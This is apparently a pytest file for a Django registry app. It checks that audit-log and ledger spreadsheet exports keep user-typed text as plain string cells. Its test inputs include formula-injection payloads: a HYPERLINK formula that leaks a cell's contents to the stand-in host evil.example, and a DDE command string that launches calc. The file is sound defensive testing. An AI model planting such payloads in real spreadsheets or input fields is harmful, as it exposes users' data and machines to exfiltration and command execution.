"""Text a user typed leaves Anju as text: in every workbook it writes, "=HYPERLINK(…)" is a
string an auditor reads, never a formula Excel runs, and it reads back exactly as typed."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from anju.accounts.models import Role, User
from anju.audit.context import Actor
from anju.core.ledger import COMMUNITY_SHEET, LedgerBook
from anju.registry.ledger_files import read_workbook
from anju.registry.models import Community
from anju.registry.services import community_update, ledger_export
from anju.testing import CITY, PASSWORD

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "http://evil.example/",
]
SYSTEM = Actor(user=None, origin="test")


def test_no_workbook_is_made_but_through_the_one_that_writes_text_as_text() -> None:
    made_elsewhere = [
        str(path)
        for path in Path("anju").rglob("*.py")
        if "tests" not in path.parts
        and path.name != "workbooks.py"
        and re.search(r"xlsxwriter\.Workbook\(", path.read_text(encoding="utf-8"))
    ]
    assert made_elsewhere == []


def test_a_sign_in_name_typed_as_a_formula_is_text_in_the_audit_log_workbook(
    city: object, make_user: Callable[..., User]
) -> None:
    make_user("auditor", CITY, Role.AUDITOR)
    for name in HOSTILE_TEXT:
        Client().post("/login/", {"username": name, "password": "Wrong-pass-2026"})
    auditor = Client()
    assert auditor.login(username="auditor", password=PASSWORD)
    answer = auditor.get("/audit/log.xlsx", {"action": "login.failed"})
    cells = [c for row in load_workbook(io.BytesIO(answer.content)).active.iter_rows() for c in row]
    for name in HOSTILE_TEXT:
        typed = [c for c in cells if c.value == name]
        assert typed, name
        assert all(c.data_type == "s" for c in typed), name


@pytest.mark.parametrize("address", HOSTILE_TEXT)
def test_an_address_typed_as_a_formula_leaves_in_the_ledger_as_text_and_comes_back_unchanged(
    city: LedgerBook, tmp_path: Path, address: str
) -> None:
    community = Community.objects.order_by("code").first()
    assert community is not None
    community_update(actor=SYSTEM, community=community, values={"address": address})
    path = tmp_path / "ledger.xlsx"
    ledger_export(actor=SYSTEM, target=path)
    sheet = load_workbook(path)[COMMUNITY_SHEET]
    column = [c.value for c in sheet[1]].index("详细地址") + 1
    cell = next(
        row[column - 1] for row in sheet.iter_rows(min_row=2) if row[0].value == community.code
    )
    assert (cell.value, cell.data_type) == (address, "s")
    rows = read_workbook(path)[COMMUNITY_SHEET]
    assert [r[column - 1] for r in rows if r[0] == community.code] == [address]
